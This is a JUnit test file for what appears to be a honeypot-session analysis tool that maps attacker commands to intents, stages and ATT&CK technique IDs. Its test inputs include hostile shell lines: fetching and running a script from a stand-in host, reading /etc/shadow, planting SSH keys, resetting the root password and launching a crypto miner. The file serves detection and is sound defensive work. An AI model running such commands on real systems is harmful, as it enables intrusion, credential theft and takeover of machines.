package io.github.cowriekit.analysis.internal.techniques;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.cowriekit.analysis.Analysis;
import io.github.cowriekit.analysis.Sessions;
import io.github.cowriekit.model.Client;
import io.github.cowriekit.model.Download;
import io.github.cowriekit.model.FileOrigin;
import io.github.cowriekit.model.Forward;
import io.github.cowriekit.model.Notice;
import io.github.cowriekit.model.Session;
import io.github.cowriekit.model.SessionEnd;
import io.github.cowriekit.model.TerminalSize;
import io.github.cowriekit.model.Upload;
import io.github.cowriekit.model.assessment.Intent;
import io.github.cowriekit.model.assessment.SessionCategory;
import io.github.cowriekit.model.assessment.SessionFlag;
import io.github.cowriekit.model.assessment.Stage;
import io.github.cowriekit.model.assessment.technique.AttemptedTechnique;
import io.github.cowriekit.model.assessment.technique.Techniques;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class TechniquesTest {
    private static final Analysis ANALYSIS = Analysis.standard();

    @Test
    void tellsTheCategoriesApart() {
        Session scan = Session.builder("aa", SessionEnd.CLOSED)
                .client(new Client("SSH-2.0-ZGrab ZGrab SSH Survey", null, null, List.of()))
                .build();

        assertThat(of(scan).category()).isEqualTo(SessionCategory.NO_CRED);
        assertThat(of(scan).flags()).containsExactly(SessionFlag.SCAN);
        assertThat(of(scan).stage()).isEqualTo(Stage.CONNECT);
        assertThat(of(Sessions.ran()
                                .logins(List.of(Sessions.login("root", "1", false)))
                                .build())
                        .category())
                .isEqualTo(SessionCategory.FAIL_LOG);
        assertThat(of(Sessions.ran().build()).category()).isEqualTo(SessionCategory.NO_CMD);
        assertThat(of(Sessions.ran("id").build()).category()).isEqualTo(SessionCategory.CMD);
        assertThat(of(Sessions.ran("wget http://192.0.2.7/x").build())
                        .category()
                        .label())
                .isEqualTo("CMD+URI");
        assertThat(of(Sessions.ran("./get")
                                .downloads(List.of(Download.builder(FileOrigin.URL)
                                        .url("http://192.0.2.7/x")
                                        .failed(true)
                                        .build()))
                                .build())
                        .category())
                .isEqualTo(SessionCategory.CMD_URI);
    }

    @Test
    void flagsWhatElseIsTrue() {
        Techniques busy = of(Sessions.ran("cat k >> /root/.ssh/authorized_keys")
                .client(new Client(null, null, new TerminalSize(80, 24), List.of()))
                .forwards(List.of(Forward.builder()
                        .targetHost("192.0.2.1")
                        .targetPort(443)
                        .build()))
                .uploads(List.of(Upload.builder(FileOrigin.SFTP).filename("x").build()))
                .notices(List.of(new Notice(null, "cowrie.telnet.exploit_attempt", Map.of())))
                .build());

        assertThat(busy.flags())
                .containsExactly(
                        SessionFlag.PROXY,
                        SessionFlag.UPLOAD,
                        SessionFlag.INTERACTIVE,
                        SessionFlag.KEY_PLANT,
                        SessionFlag.EXPLOIT);
        assertThat(busy.ids()).contains("T1090", "T1105", "T1190", "T1098.004");
        assertThat(of(Sessions.ran("cat .ssh/authorized_keys").build()).flags()).containsExactly(SessionFlag.EXEC);
        assertThat(of(Session.builder("aa", SessionEnd.END_OF_INPUT).build()).flags())
                .containsExactly(SessionFlag.CUT);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '!',
            quoteCharacter = '\u0001',
            value = {
                "./xmrig -o pool                                ! IMPACT      ! IMPACT",
                "echo k >> .ssh/authorized_keys                 ! PERSISTENCE ! PERSISTENCE",
                "cd /tmp; wget http://192.0.2.7/x; sh ./x.sh    ! DROPPER     ! EXECUTION",
                "wget http://192.0.2.7/x                        ! NONE        ! TOOLING",
                "cat /etc/shadow                                ! THEFT       ! DISCOVERY",
                "echo \"root:x\"|chpasswd                       ! LOCKOUT     ! IMPACT",
                "uname -a                                       ! LIVENESS    ! DISCOVERY",
                "uname -a; cat /proc/cpuinfo                    ! RECON       ! DISCOVERY",
                "crontab -l                                     ! NONE        ! ACCESS",
                "exit                                           ! NONE        ! ACCESS",
            })
    void rollsUpIntentAndStage(String command, Intent intent, Stage stage) {
        Techniques techniques = of(Sessions.ran(command).build());

        assertThat(techniques.intent()).isEqualTo(intent);
        assertThat(techniques.stage()).isEqualTo(stage);
    }

    @Test
    void callsAForwardWithoutCommandsAProxy() {
        assertThat(of(Sessions.ran()
                                .forwards(List.of(Forward.builder()
                                        .targetHost("192.0.2.1")
                                        .targetPort(443)
                                        .build()))
                                .build())
                        .intent())
                .isEqualTo(Intent.PROXY);
    }

    @Test
    void countsMatchesAndPointsAtTheFirst() {
        AttemptedTechnique first = of(
                        Sessions.ran("exit", "whoami", "whoami", "id").build())
                .attempts()
                .stream()
                .filter(attempt -> attempt.rule().id().equals("A10"))
                .findFirst()
                .orElseThrow();

        assertThat(first.times()).isEqualTo(3);
        assertThat(first.command()).isEqualTo(1);
        assertThat(first.first().matched()).isEqualTo("whoami");
    }

    @Test
    void knowsLoginsThatAreTechniques() {
        Techniques techniques = of(Sessions.ran()
                .logins(List.of(Sessions.login("root", "1", false), Sessions.login("pi", "raspberry", true)))
                .build());

        assertThat(techniques.ids()).containsExactly("T1078.001", "T1110.001");
        assertThat(techniques.attempts())
                .allSatisfy(attempt -> assertThat(attempt.first().matched()).doesNotContain("raspberry"));
        assertThat(of(Sessions.ran().protocol("telnet").build()).ids()).isEmpty();
    }

    private static Techniques of(Session session) {
        return Objects.requireNonNull(ANALYSIS.assess(session).techniques());
    }
}
